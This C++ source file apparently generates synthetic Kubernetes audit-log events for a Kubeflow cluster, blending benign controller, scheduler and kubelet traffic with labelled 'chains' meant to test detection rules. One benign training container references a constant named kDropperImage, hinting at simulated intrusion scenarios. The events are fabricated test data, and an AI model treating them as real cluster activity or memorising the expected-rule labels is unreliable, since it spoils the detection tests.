#include "traffic_generator.hpp"

#include <algorithm>
#include <array>
#include <cstdio>
#include <deque>
#include <functional>
#include <initializer_list>
#include <random>
#include <utility>

#include <nlohmann/json.hpp>

namespace mg::audit::testing {
namespace {

using json = nlohmann::ordered_json;

constexpr std::int64_t kMs = 1000;
constexpr std::int64_t kSecond = 1000 * kMs;
constexpr std::int64_t kMinute = 60 * kSecond;
constexpr std::int64_t kHour = 60 * kMinute;

// ---------------------------------------------------------------------------------------------
// Randomness: std::mt19937_64 is specified bit for bit by the standard; the distributions are
// not, so ranges are drawn here by rejection.

class Rng {
 public:
  explicit Rng(std::uint64_t seed) : engine_(seed) {}

  std::uint64_t below(std::uint64_t n) {  // uniform in [0, n), n > 0
    const std::uint64_t limit = UINT64_MAX - UINT64_MAX % n;
    std::uint64_t x = 0;
    do {
      x = engine_();
    } while (x >= limit);
    return x % n;
  }
  std::int64_t between(std::int64_t lo, std::int64_t hi) {  // inclusive
    return lo + static_cast<std::int64_t>(below(static_cast<std::uint64_t>(hi - lo) + 1));
  }
  bool chance(int percent) { return below(100) < static_cast<std::uint64_t>(percent); }
  template <class T>
  const T& pick(const std::vector<T>& items) {
    return items[below(items.size())];
  }
  std::string hex(int digits) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string out;
    for (int i = 0; i < digits; ++i) out += kHex[below(16)];
    return out;
  }
  // Kubernetes' random suffixes (generateName, pod-template-hash) use this alphabet.
  std::string k8s_suffix(int length) {
    static constexpr char kAlphabet[] = "bcdfghjklmnpqrstvwxz2456789";
    std::string out;
    for (int i = 0; i < length; ++i) out += kAlphabet[below(sizeof kAlphabet - 1)];
    return out;
  }
  std::string uuid() {  // version 4
    std::string h = hex(32);
    h[12] = '4';
    h[16] = "89ab"[below(4)];
    return h.substr(0, 8) + "-" + h.substr(8, 4) + "-" + h.substr(12, 4) + "-" + h.substr(16, 4) + "-" + h.substr(20);
  }

 private:
  std::mt19937_64 engine_;
};

// splitmix64: per-index values for the wrappers, which see only the events.
std::uint64_t mix(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

// ---------------------------------------------------------------------------------------------
// Time: RFC 3339 in UTC, as the API server writes it (microseconds) or Cloud Logging (nanos).

std::int64_t floor_div(std::int64_t a, std::int64_t b) { return a / b - ((a % b != 0) && ((a < 0) != (b < 0))); }

// Howard Hinnant's civil_from_days.
void civil_from_days(std::int64_t z, int& y, unsigned& m, unsigned& d) {
  z += 719468;
  const std::int64_t era = floor_div(z, 146097);
  const unsigned doe = static_cast<unsigned>(z - era * 146097);
  const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  const std::int64_t yy = static_cast<std::int64_t>(yoe) + era * 400;
  const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  const unsigned mp = (5 * doy + 2) / 153;
  d = doy - (153 * mp + 2) / 5 + 1;
  m = mp < 10 ? mp + 3 : mp - 9;
  y = static_cast<int>(yy + (m <= 2));
}

// digits: 0 (whole seconds), 6 (micro), 7 (Azure's "….0000000Z"), 9 (nanos; extra_ns fills 7-9).
std::string rfc3339(std::int64_t us, int digits = 6, int extra_ns = 0) {
  const std::int64_t secs = floor_div(us, kSecond);
  const std::int64_t frac_us = us - secs * kSecond;
  const std::int64_t days = floor_div(secs, 86400);
  const std::int64_t sod = secs - days * 86400;
  int y = 0;
  unsigned m = 0, d = 0;
  civil_from_days(days, y, m, d);
  char buf[64];
  int n = std::snprintf(buf, sizeof buf, "%04d-%02u-%02uT%02d:%02d:%02d", y, m, d, static_cast<int>(sod / 3600),
                        static_cast<int>(sod / 60 % 60), static_cast<int>(sod % 60));
  std::string out(buf, static_cast<std::size_t>(n));
  if (digits == 6) {
    std::snprintf(buf, sizeof buf, ".%06lld", static_cast<long long>(frac_us));
    out += buf;
  } else if (digits == 7) {
    out += ".0000000";  // AKS records carry whole seconds this way
  } else if (digits == 9) {
    std::snprintf(buf, sizeof buf, ".%06lld%03d", static_cast<long long>(frac_us), extra_ns % 1000);
    out += buf;
  }
  return out + "Z";
}

// ---------------------------------------------------------------------------------------------
// Identities.

struct Actor {
  std::string username;
  std::string uid;
  std::vector<std::string> groups;
  json extra;  // null when the token carries none
  std::string ip;
  std::string agent;
};

constexpr std::string_view kKubeVersion = "v1.28.5";
constexpr std::string_view kKubeCommit = "506050d";
constexpr std::string_view kControlPlaneIp = "172.31.12.4";

std::string controller_agent(std::string_view sa) {
  return "kube-controller-manager/" + std::string(kKubeVersion) + " (linux/amd64) kubernetes/" +
         std::string(kKubeCommit) + "/system:serviceaccount:kube-system:" + std::string(sa);
}

// ---------------------------------------------------------------------------------------------
// One API call, turned into one audit event.

enum class Level { automatic, metadata, request, request_response };

// The object a call is about (the event's objectRef); ns empty = cluster-scoped, group empty = the
// core group. Every member has an initializer so that designated initializers may leave any out
// (GCC's -Wmissing-field-initializers).
struct ObjectRef {
  std::string resource{}, ns{}, name{}, group{}, version = "v1", sub{};
};

struct Call {
  const Actor* who = nullptr;
  std::string verb{};
  std::string uri{};
  ObjectRef object{};  // resource empty = a non-resource URL (no objectRef)
  int code = 200;
  json request = nullptr;   // requestObject (null: none)
  json response = nullptr;  // responseObject (null: none)
  std::string reason{};     // authorization.k8s.io/reason
  bool pod_security = false;
  std::string stage = "ResponseComplete";
  Level level = Level::automatic;
};

bool is_read(std::string_view verb) { return verb == "get" || verb == "list" || verb == "watch"; }

// The path the API server serves `object` at: /api/v1 for the core group, /apis/<group>/<version>
// for the others, then the namespace, the resource, and the name and subresource where given.
std::string resource_path(const ObjectRef& object) {
  std::string path = object.group.empty() ? "/api/" + object.version : "/apis/" + object.group + "/" + object.version;
  if (!object.ns.empty()) path += "/namespaces/" + object.ns;
  path += "/" + object.resource;
  if (!object.name.empty()) path += "/" + object.name;
  if (!object.sub.empty()) path += "/" + object.sub;
  return path;
}

// A get, list or watch of `object`; `query` ("?limit=500") is appended to its path as is.
Call read_call(const Actor& who, std::string verb, ObjectRef object, std::string reason, std::string_view query = {}) {
  std::string uri = resource_path(object) + std::string(query);
  return {.who = &who, .verb = std::move(verb), .uri = std::move(uri), .object = std::move(object),
          .reason = std::move(reason)};
}

// A patch or update of an existing object: the request as sent, the object as stored after it.
Call write_call(const Actor& who, std::string verb, ObjectRef object, json request, json response, std::string reason,
                std::string_view query = {}) {
  std::string uri = resource_path(object) + std::string(query);
  return {.who = &who, .verb = std::move(verb), .uri = std::move(uri), .object = std::move(object),
          .request = std::move(request), .response = std::move(response), .reason = std::move(reason)};
}

// A create, answered 201: POSTed to the collection (the name comes in the body), or to the named
// object when it is a subresource (pods/binding, pods/exec). `sent_and_stored` is the request and
// response object, as created() returns them.
Call create_call(const Actor& who, ObjectRef object, std::pair<json, json> sent_and_stored, std::string reason,
                 std::string_view query = {}) {
  ObjectRef target = object;
  if (target.sub.empty()) target.name.clear();
  std::string uri = resource_path(target) + std::string(query);
  return {.who = &who, .verb = "create", .uri = std::move(uri), .object = std::move(object), .code = 201,
          .request = std::move(sent_and_stored.first), .response = std::move(sent_and_stored.second),
          .reason = std::move(reason)};
}

const char* http_reason(int code) {
  switch (code) {
    case 401: return "Unauthorized";
    case 403: return "Forbidden";
    case 404: return "NotFound";
    case 409: return "AlreadyExists";
    default: return "InternalError";
  }
}

// "system:serviceaccount:kube-system:replicaset-controller" → ServiceAccount "replicaset-controller/kube-system"
std::string sa_subject(const std::string& username) {
  const std::size_t name_at = username.rfind(':');
  const std::size_t ns_at = username.rfind(':', name_at - 1);
  return "ServiceAccount \"" + username.substr(name_at + 1) + "/" + username.substr(ns_at + 1, name_at - ns_at - 1) + "\"";
}

std::string user_subject(std::string_view username) { return "User \"" + std::string(username) + "\""; }

std::string rbac_reason(std::string_view binding_kind, std::string_view binding, std::string_view role,
                        std::string_view subject) {
  return "RBAC: allowed by " + std::string(binding_kind) + " \"" + std::string(binding) + "\" of ClusterRole \"" +
         std::string(role) + "\" to " + std::string(subject);
}

// Object metadata of a created object, in the order the API server returns it.
json created_metadata(const json& in, const std::string& name, const std::string& ns, const std::string& uid,
                      std::int64_t resource_version, const std::string& created) {
  json out;
  out["name"] = name;
  if (in.contains("generateName")) out["generateName"] = in["generateName"];
  if (!ns.empty()) out["namespace"] = ns;
  out["uid"] = uid;
  out["resourceVersion"] = std::to_string(resource_version);
  out["creationTimestamp"] = created;
  for (const char* key : {"labels", "annotations", "ownerReferences", "finalizers"})
    if (in.contains(key)) out[key] = in[key];
  return out;
}

// ---------------------------------------------------------------------------------------------
// Kubernetes objects.

json quantity_map(std::initializer_list<std::pair<const char*, const char*>> items) {
  json out = json::object();
  for (const auto& [k, v] : items) out[k] = v;
  return out;
}

json container(const std::string& name, const std::string& image, json command = nullptr, json resources = nullptr,
               json extra = nullptr) {
  json c;
  if (!command.is_null()) c["command"] = std::move(command);
  c["image"] = image;
  c["imagePullPolicy"] = "IfNotPresent";
  c["name"] = name;
  if (!extra.is_null())
    for (auto& [k, v] : extra.items()) c[k] = v;
  c["resources"] = resources.is_null() ? json::object() : std::move(resources);
  c["terminationMessagePath"] = "/dev/termination-log";
  c["terminationMessagePolicy"] = "File";
  return c;
}

json gpu_resources() {
  json r;
  r["limits"] = quantity_map({{"cpu", "4"}, {"memory", "16Gi"}, {"nvidia.com/gpu", "1"}});
  r["requests"] = quantity_map({{"cpu", "2"}, {"memory", "8Gi"}, {"nvidia.com/gpu", "1"}});
  return r;
}

json small_resources() {
  json r;
  r["limits"] = quantity_map({{"cpu", "500m"}, {"memory", "512Mi"}});
  r["requests"] = quantity_map({{"cpu", "100m"}, {"memory", "128Mi"}});
  return r;
}

json gpu_node_selector() {
  json s;
  s["nvidia.com/gpu.present"] = "true";
  return s;
}

json pod_spec(json containers, const std::string& service_account, json node_selector = nullptr,
              json init_containers = nullptr, json volumes = nullptr) {
  json s;
  s["containers"] = std::move(containers);
  s["dnsPolicy"] = "ClusterFirst";
  s["enableServiceLinks"] = true;
  if (!init_containers.is_null()) s["initContainers"] = std::move(init_containers);
  if (!node_selector.is_null()) s["nodeSelector"] = std::move(node_selector);
  s["preemptionPolicy"] = "PreemptLowerPriority";
  s["priority"] = 0;
  s["restartPolicy"] = "Always";
  s["schedulerName"] = "default-scheduler";
  s["securityContext"] = json::object();
  s["serviceAccount"] = service_account;
  s["serviceAccountName"] = service_account;
  s["terminationGracePeriodSeconds"] = 30;
  if (!volumes.is_null()) s["volumes"] = std::move(volumes);
  return s;
}

// The container of a TFJob's worker (tf) or a PyTorchJob's master: the Kubeflow MNIST examples.
json training_container(bool tf) {
  return tf ? container("tensorflow", std::string(kDropperImage),
                        json::array({"python", "/var/tf_mnist/mnist_with_summaries.py", "--log_dir=/train/logs"}),
                        gpu_resources())
            : container("pytorch", "docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727",
                        json::array({"python3", "/opt/pytorch-mnist/mnist.py", "--epochs=1"}), gpu_resources());
}

json owner(const std::string& api_version, const std::string& kind, const std::string& name, const std::string& uid) {
  json o;
  o["apiVersion"] = api_version;
  o["blockOwnerDeletion"] = true;
  o["controller"] = true;
  o["kind"] = kind;
  o["name"] = name;
  o["uid"] = uid;
  return o;
}

json labels(std::initializer_list<std::pair<const char*, std::string>> items) {
  json out = json::object();
  for (const auto& [k, v] : items) out[k] = v;
  return out;
}

// ---------------------------------------------------------------------------------------------

struct Namespace {
  std::string name;
  std::string owner_email;  // the profile owner
};

// The notebook server each user keeps running in their namespace: StatefulSet <name>, pod <name>-0.
std::string user_notebook(std::string_view ns) { return ns == "kubeflow-alice" ? "alice-gpu-nb" : "bob-scipy"; }

class Generator {
 public:
  explicit Generator(const TrafficOptions& options) : opt_(options), rng_(options.seed) {
    opt_.hours = std::max(1, opt_.hours);
    opt_.benign_events = std::max(0, opt_.benign_events);
    opt_.chains = std::max(0, opt_.chains);
    make_actors();
  }

  std::vector<GeneratedEvent> run() {
    benign();
    for (int c = 1; c <= opt_.chains; ++c) chain(c);
    std::stable_sort(events_.begin(), events_.end(),
                     [](const GeneratedEvent& a, const GeneratedEvent& b) { return a.time_us < b.time_us; });
    return std::move(events_);
  }

 private:
  // ---- identities ------------------------------------------------------------------------

  Actor service_account(const std::string& ns, const std::string& name, const std::string& ip,
                        const std::string& agent, const std::string& pod = {}) {
    Actor a;
    a.username = "system:serviceaccount:" + ns + ":" + name;
    a.uid = rng_.uuid();
    a.groups = {"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"};
    if (!pod.empty()) {
      a.extra["authentication.kubernetes.io/pod-name"] = json::array({pod});
      a.extra["authentication.kubernetes.io/pod-uid"] = json::array({rng_.uuid()});
    }
    a.ip = ip;
    a.agent = agent;
    return a;
  }

  void make_actors() {
    const std::string cp(kControlPlaneIp);
    rs_controller_ = service_account("kube-system", "replicaset-controller", cp, controller_agent("replicaset-controller"));
    ss_controller_ = service_account("kube-system", "statefulset-controller", cp, controller_agent("statefulset-controller"));
    job_controller_ = service_account("kube-system", "job-controller", cp, controller_agent("job-controller"));
    scheduler_ = Actor{"system:kube-scheduler", "", {"system:authenticated"}, nullptr, cp,
                       "kube-scheduler/" + std::string(kKubeVersion) + " (linux/amd64) kubernetes/" +
                           std::string(kKubeCommit) + "/scheduler"};
    kcm_ = Actor{"system:kube-controller-manager", "", {"system:authenticated"}, nullptr, cp,
                 "kube-controller-manager/" + std::string(kKubeVersion) + " (linux/amd64) kubernetes/" +
                     std::string(kKubeCommit) + "/leader-election"};
    const std::array<std::pair<const char*, const char*>, 3> nodes = {
        {{"gpu-node-1", "10.224.0.5"}, {"gpu-node-2", "10.224.0.6"}, {"cpu-node-1", "10.224.0.7"}}};
    for (const auto& [node, ip] : nodes)
      kubelets_.push_back(Actor{std::string("system:node:") + node, "", {"system:nodes", "system:authenticated"}, nullptr,
                                ip, "kubelet/" + std::string(kKubeVersion) + " (linux/amd64) kubernetes/" +
                                        std::string(kKubeCommit)});
    const std::string manager = "manager/v0.0.0 (linux/amd64) kubernetes/$Format";
    notebook_controller_ = service_account("kubeflow", "notebook-controller-service-account", "10.244.1.12", manager,
                                           "notebook-controller-deployment-7c6c8d5b9f-" + rng_.k8s_suffix(5));
    training_operator_ = service_account("kubeflow", "training-operator", "10.244.1.14",
                                         "training-operator/v0.0.0 (linux/amd64) kubernetes/$Format",
                                         "training-operator-64c768746c-" + rng_.k8s_suffix(5));
    argo_ = service_account("kubeflow", "argo", "10.244.1.16", "workflow-controller/v3.4.17 argo-controller",
                            "workflow-controller-589ff7c479-" + rng_.k8s_suffix(5));
    ml_pipeline_ = service_account("kubeflow", "ml-pipeline", "10.244.1.18",
                                   "apiserver/v0.0.0 (linux/amd64) kubernetes/$Format",
                                   "ml-pipeline-7f7f9f98d4-" + rng_.k8s_suffix(5));
    profiles_ = service_account("kubeflow", "profiles-controller-service-account", "10.244.1.22", manager,
                                "profiles-deployment-6bc745947-" + rng_.k8s_suffix(5));
    jwa_ = service_account("kubeflow", "jupyter-web-app-service-account", "10.244.1.20",
                           "OpenAPI-Generator/25.3.0/python", "jupyter-web-app-deployment-5f8d9b6c7d-" + rng_.k8s_suffix(5));
    const std::string kubectl = "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62";
    alice_ = Actor{"alice@example.com", "", {"system:authenticated"}, nullptr, "192.0.2.10", kubectl};
    bob_ = Actor{"bob@example.com", "", {"system:authenticated"}, nullptr, "192.0.2.11", kubectl};
    admin_ = Actor{"kubernetes-admin", "", {"system:masters", "system:authenticated"}, nullptr, "192.0.2.5", kubectl};
    probe_ = Actor{"system:anonymous", "", {"system:unauthenticated"}, nullptr, "10.224.0.4", "kube-probe/1.28"};
    user_namespaces_ = {{"kubeflow-alice", "alice@example.com"}, {"kubeflow-bob", "bob@example.com"}};
  }

  // ---- events ----------------------------------------------------------------------------

  std::string uid() { return rng_.uuid(); }
  std::int64_t next_rv() { return resource_version_ += 1 + static_cast<std::int64_t>(rng_.below(40)); }

  GeneratedEvent& emit(const Call& c, std::int64_t t, int chain = -1, int step = 0,
                       std::vector<std::string> rules = {}) {
    const bool read = is_read(c.verb);
    Level level = c.level;
    if (level == Level::automatic) level = read ? Level::metadata : Level::request_response;
    const char* level_name = level == Level::metadata ? "Metadata" : level == Level::request ? "Request" : "RequestResponse";

    GeneratedEvent out;
    out.audit_id = rng_.uuid();
    out.chain = chain;
    out.step = step;
    out.time_us = t;
    std::sort(rules.begin(), rules.end());
    out.expected_rules = std::move(rules);

    json ev;
    ev["kind"] = "Event";
    ev["apiVersion"] = "audit.k8s.io/v1";
    ev["level"] = level_name;
    ev["auditID"] = out.audit_id;
    ev["stage"] = c.stage;
    ev["requestURI"] = c.uri;
    ev["verb"] = c.verb;
    json user;
    user["username"] = c.who->username;
    if (!c.who->uid.empty()) user["uid"] = c.who->uid;
    user["groups"] = c.who->groups;
    if (!c.who->extra.is_null()) user["extra"] = c.who->extra;
    ev["user"] = std::move(user);
    ev["sourceIPs"] = json::array({c.who->ip});
    ev["userAgent"] = c.who->agent;
    if (!c.object.resource.empty()) {
      json ref;
      ref["resource"] = c.object.resource;
      if (!c.object.ns.empty()) ref["namespace"] = c.object.ns;
      if (!c.object.name.empty()) ref["name"] = c.object.name;
      if (!c.object.group.empty()) ref["apiGroup"] = c.object.group;
      ref["apiVersion"] = c.object.version;
      if (!c.object.sub.empty()) ref["subresource"] = c.object.sub;
      ev["objectRef"] = std::move(ref);
    }
    json status;
    status["metadata"] = json::object();
    if (c.code >= 400) {
      status["status"] = "Failure";
      status["message"] = c.object.resource + " \"" + c.object.name + "\" is forbidden";
      status["reason"] = http_reason(c.code);
    }
    status["code"] = c.code;
    ev["responseStatus"] = std::move(status);
    if (level != Level::metadata && !c.request.is_null()) ev["requestObject"] = c.request;
    if (level == Level::request_response && !c.response.is_null()) ev["responseObject"] = c.response;
    const std::int64_t latency =
        c.stage == "ResponseStarted" ? rng_.between(15 * kMs, 60 * kMs)
                                     : (read ? rng_.between(300, 4 * kMs) : rng_.between(2 * kMs, 18 * kMs));
    ev["requestReceivedTimestamp"] = rfc3339(t);
    ev["stageTimestamp"] = rfc3339(t + latency);
    json annotations;
    annotations["authorization.k8s.io/decision"] = "allow";
    annotations["authorization.k8s.io/reason"] = c.reason;
    if (c.pod_security) annotations["pod-security.kubernetes.io/enforce-policy"] = "privileged:latest";
    ev["annotations"] = std::move(annotations);
    out.json = ev.dump();
    events_.push_back(std::move(out));
    return events_.back();
  }

  // A created object: the request as sent, the response as stored.
  std::pair<json, json> created(json request, const std::string& name, const std::string& ns, std::int64_t t,
                                json status = json::object()) {
    json response = request;
    response["metadata"] = created_metadata(request["metadata"], name, ns, uid(), next_rv(), rfc3339(t, 0));
    if (response.contains("status") || !status.empty()) response["status"] = std::move(status);
    return {std::move(request), std::move(response)};
  }

  // Pod create by a controller: generateName or a fixed name, ownerReferences{controller:true}.
  std::string pod_create(const Actor& who, const std::string& ns, const std::string& base, bool generate, json meta_labels,
                  json owner_ref, json spec, std::int64_t t, const std::string& binding, const std::string& role,
                  int chain = -1, int step = 0, std::vector<std::string> rules = {}) {
    json meta;
    std::string name = base;
    if (generate) {
      meta["generateName"] = base + "-";
      name = base + "-" + rng_.k8s_suffix(5);
    } else {
      meta["name"] = base;
    }
    meta["namespace"] = ns;
    meta["creationTimestamp"] = nullptr;
    meta["labels"] = std::move(meta_labels);
    meta["ownerReferences"] = json::array({std::move(owner_ref)});
    json request;
    request["kind"] = "Pod";
    request["apiVersion"] = "v1";
    request["metadata"] = std::move(meta);
    request["spec"] = std::move(spec);
    request["status"] = json::object();
    json pod_status;
    pod_status["phase"] = "Pending";
    pod_status["qosClass"] = "Burstable";
    auto sent_and_stored = created(std::move(request), name, ns, t, std::move(pod_status));
    std::string created_uid = sent_and_stored.second["metadata"]["uid"].get<std::string>();
    // A generated name is not known to the request, so the objectRef has none.
    Call c = create_call(who, {.resource = "pods", .ns = ns, .name = generate ? "" : name}, std::move(sent_and_stored),
                         rbac_reason("ClusterRoleBinding", binding, role, sa_subject(who.username)));
    c.pod_security = true;
    emit(c, t, chain, step, std::move(rules));
    return created_uid;
  }

  // ---- benign traffic ----------------------------------------------------------------------

  void rs_pod(std::int64_t t) {
    struct App {
      const char* ns;
      const char* deploy;
      const char* image;
    };
    static const std::vector<App> apps = {
        {"kube-system", "coredns", "registry.k8s.io/coredns/coredns:v1.10.1"},
        {"kube-system", "metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.6.4"},
        {"kube-system", "konnectivity-agent", "registry.k8s.io/kas-network-proxy/proxy-agent:v0.1.4"},
        {"kubeflow", "ml-pipeline", "gcr.io/ml-pipeline/api-server:2.0.5"},
        {"kubeflow", "ml-pipeline-ui", "gcr.io/ml-pipeline/frontend:2.0.5"},
        {"kubeflow", "ml-pipeline-persistenceagent", "gcr.io/ml-pipeline/persistenceagent:2.0.5"},
        {"kubeflow", "ml-pipeline-scheduledworkflow", "gcr.io/ml-pipeline/scheduledworkflow:2.0.5"},
        {"istio-system", "istiod", "gcr.io/istio-release/pilot:1.17.5"},
    };
    const App& app = rng_.pick(apps);
    const std::string hash = rng_.k8s_suffix(10);
    const std::string rs = std::string(app.deploy) + "-" + hash;
    json spec = pod_spec(json::array({container(app.deploy, app.image, nullptr, small_resources())}),
                         std::string(app.deploy));
    pod_create(rs_controller_, app.ns, rs, true, labels({{"app", app.deploy}, {"pod-template-hash", hash}}),
               owner("apps/v1", "ReplicaSet", rs, uid()), std::move(spec), t, "system:controller:replicaset-controller",
               "system:controller:replicaset-controller");
  }

  json notebook_pod_spec(const std::string& name, const std::string& image, bool gpu, bool gpu_selector) {
    json extra;
    extra["ports"] = json::array({json{{"containerPort", 8888}, {"name", "notebook-port"}, {"protocol", "TCP"}}});
    extra["volumeMounts"] = json::array({json{{"mountPath", "/dev/shm"}, {"name", "dshm"}},
                                         json{{"mountPath", "/home/jovyan"}, {"name", name + "-volume"}}});
    json env = json::array({json{{"name", "NB_PREFIX"}, {"value", "/notebook/" + name}}});
    extra["env"] = env;
    json volumes = json::array(
        {json{{"emptyDir", json{{"medium", "Memory"}}}, {"name", "dshm"}},
         json{{"name", name + "-volume"}, {"persistentVolumeClaim", json{{"claimName", name + "-volume"}}}}});
    return pod_spec(json::array({container(name, image, nullptr, gpu ? gpu_resources() : small_resources(), extra)}),
                    "default-editor", gpu_selector ? gpu_node_selector() : json(nullptr), nullptr, volumes);
  }

  // alice's notebook servers run the GPU image with a GPU, bob's the CPU image; neither asks for a
  // GPU node.
  json user_notebook_pod_spec(const std::string& nb, bool alice) {
    return notebook_pod_spec(nb, alice ? "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-gpu:1.0.0"
                                       : "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-cpu:1.0.0",
                             alice, false);
  }

  // Pod <nb>-0 of StatefulSet nb (uid sts_uid), created by the statefulset controller.
  std::string statefulset_pod_create(const std::string& ns, const std::string& nb, const std::string& sts_uid,
                                     json spec, std::int64_t t, int chain = -1, int step = 0,
                                     std::vector<std::string> rules = {}) {
    const std::string pod = nb + "-0";
    return pod_create(ss_controller_, ns, pod, false,
                      labels({{"app", nb},
                              {"controller-revision-hash", nb + "-" + rng_.k8s_suffix(10)},
                              {"notebook-name", nb},
                              {"statefulset", nb},
                              {"statefulset.kubernetes.io/pod-name", pod}}),
                      owner("apps/v1", "StatefulSet", nb, sts_uid), std::move(spec), t,
                      "system:controller:statefulset-controller", "system:controller:statefulset-controller", chain,
                      step, std::move(rules));
  }

  void ss_pod(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const std::string nb = user_notebook(ns.name);
    statefulset_pod_create(ns.name, nb, uid(), user_notebook_pod_spec(nb, ns.name == "kubeflow-alice"), t);
  }

  void job_pod(std::int64_t t) {
    const std::string job = "kfp-cache-cleanup-" + std::to_string(28000000 + rng_.below(90000));
    json spec = pod_spec(
        json::array({container("cleanup", "registry.k8s.io/kubectl:v1.28.5",
                               json::array({"kubectl", "delete", "pods", "-n", "kubeflow", "--field-selector=status.phase==Succeeded"}),
                               small_resources())}),
        "ml-pipeline");
    spec["restartPolicy"] = "Never";
    pod_create(job_controller_, "kubeflow", job, true,
               labels({{"batch.kubernetes.io/job-name", job}, {"controller-uid", uid()}, {"job-name", job}}),
               owner("batch/v1", "Job", job, uid()), std::move(spec), t, "system:controller:job-controller",
               "system:controller:job-controller");
  }

  void scheduler_bind(std::int64_t t) {
    static const std::vector<std::string> nss = {"kube-system", "kubeflow", "kubeflow-alice", "kubeflow-bob", "istio-system"};
    const std::string ns = rng_.pick(nss);
    const std::string pod = "pod-" + rng_.k8s_suffix(10) + "-" + rng_.k8s_suffix(5);
    const Actor& node = rng_.pick(kubelets_);
    json request;
    request["kind"] = "Binding";
    request["apiVersion"] = "v1";
    request["metadata"] = json{{"name", pod}, {"namespace", ns}, {"uid", uid()}, {"creationTimestamp", nullptr}};
    request["target"] = json{{"kind", "Node"}, {"name", node.username.substr(std::string("system:node:").size())}};
    json response;
    response["kind"] = "Status";
    response["apiVersion"] = "v1";
    response["metadata"] = json::object();
    response["status"] = "Success";
    response["code"] = 201;
    emit(create_call(scheduler_, {.resource = "pods", .ns = ns, .name = pod, .sub = "binding"},
                     {std::move(request), std::move(response)},
                     rbac_reason("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler",
                                 user_subject(scheduler_.username))),
         t);
  }

  void kubelet_node_status(std::int64_t t, const Actor& node) {
    const std::string name = node.username.substr(std::string("system:node:").size());
    json condition;
    condition["lastHeartbeatTime"] = rfc3339(t, 0);
    condition["type"] = "Ready";
    json request;
    request["status"] = json{{"$setElementOrder/conditions",
                              json::array({json{{"type", "MemoryPressure"}}, json{{"type", "DiskPressure"}},
                                           json{{"type", "PIDPressure"}}, json{{"type", "Ready"}}})},
                             {"conditions", json::array({condition})}};
    json response;
    response["kind"] = "Node";
    response["apiVersion"] = "v1";
    json meta;
    meta["name"] = name;
    meta["uid"] = node_uid(name);
    meta["resourceVersion"] = std::to_string(next_rv());
    meta["creationTimestamp"] = rfc3339(kTrafficStartUs - 40 * 24 * kHour, 0);
    json node_labels = labels({{"kubernetes.io/arch", "amd64"}, {"kubernetes.io/hostname", name}, {"kubernetes.io/os", "linux"}});
    const bool gpu = name.starts_with("gpu");
    if (gpu) node_labels["nvidia.com/gpu.present"] = "true";
    meta["labels"] = std::move(node_labels);
    response["metadata"] = std::move(meta);
    json capacity = quantity_map({{"cpu", "16"}, {"memory", "65842604Ki"}, {"pods", "110"}});
    if (gpu) capacity["nvidia.com/gpu"] = "4";
    response["status"] = json{{"capacity", capacity}, {"allocatable", capacity}, {"conditions", json::array({condition})}};
    emit(write_call(node, "patch", {.resource = "nodes", .name = name, .sub = "status"}, std::move(request),
                    std::move(response), "", "?timeout=10s"),
         t);
  }
  void kubelet_node_status_any(std::int64_t t) { kubelet_node_status(t, rng_.pick(kubelets_)); }

  const std::string& node_uid(const std::string& name) {
    for (auto& [n, u] : node_uids_)
      if (n == name) return u;
    node_uids_.emplace_back(name, uid());
    return node_uids_.back().second;
  }

  void kubelet_pod_status(std::int64_t t, const Actor& node) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const std::string pod = user_notebook(ns.name) + "-0";
    json cond;
    cond["lastProbeTime"] = nullptr;
    cond["lastTransitionTime"] = rfc3339(t, 0);
    cond["status"] = "True";
    cond["type"] = "Ready";
    json request;
    request["metadata"] = json{{"uid", uid()}};
    request["status"] = json{{"conditions", json::array({cond})}, {"phase", "Running"}};
    json response;
    response["kind"] = "Pod";
    response["apiVersion"] = "v1";
    response["metadata"] = json{{"name", pod}, {"namespace", ns.name}, {"uid", request["metadata"]["uid"]},
                                {"resourceVersion", std::to_string(next_rv())}};
    response["status"] = json{{"conditions", json::array({cond})}, {"phase", "Running"}, {"qosClass", "Burstable"}};
    emit(write_call(node, "patch", {.resource = "pods", .ns = ns.name, .name = pod, .sub = "status"},
                    std::move(request), std::move(response), ""),
         t);
  }
  void kubelet_pod_status_any(std::int64_t t) { kubelet_pod_status(t, rng_.pick(kubelets_)); }

  void kubelet_get(std::int64_t t, const Actor& node, bool secret) {
    static const std::vector<std::string> nss = {"kube-system", "kubeflow", "kubeflow-alice", "kubeflow-bob"};
    const std::string ns = rng_.pick(nss);
    static const std::vector<std::string> secrets = {"mlpipeline-minio-artifact", "istio-ca-root-cert", "default-editor-token"};
    static const std::vector<std::string> configmaps = {"kube-root-ca.crt", "istio-ca-root-cert", "kfp-launcher"};
    const std::string name = rng_.pick(secret ? secrets : configmaps);
    emit(read_call(node, "get", {.resource = secret ? "secrets" : "configmaps", .ns = ns, .name = name}, ""), t);
  }
  void kubelet_get_any(std::int64_t t) { kubelet_get(t, rng_.pick(kubelets_), rng_.chance(50)); }

  void lease_update(std::int64_t t, const Actor& who, const std::string& lease) {
    json spec;
    spec["holderIdentity"] = "aks-control-plane-" + std::string(lease == "kube-scheduler" ? "sched" : "kcm") + "_" + uid();
    spec["leaseDurationSeconds"] = 15;
    spec["acquireTime"] = rfc3339(kTrafficStartUs - 3 * 24 * kHour, 6);
    spec["renewTime"] = rfc3339(t, 6);
    spec["leaseTransitions"] = 2;
    json request;
    request["kind"] = "Lease";
    request["apiVersion"] = "coordination.k8s.io/v1";
    request["metadata"] = json{{"name", lease}, {"namespace", "kube-system"}, {"uid", lease_uid(lease)},
                               {"resourceVersion", std::to_string(resource_version_)}};
    request["spec"] = spec;
    json response = request;
    response["metadata"]["resourceVersion"] = std::to_string(next_rv());
    emit(write_call(who, "update",
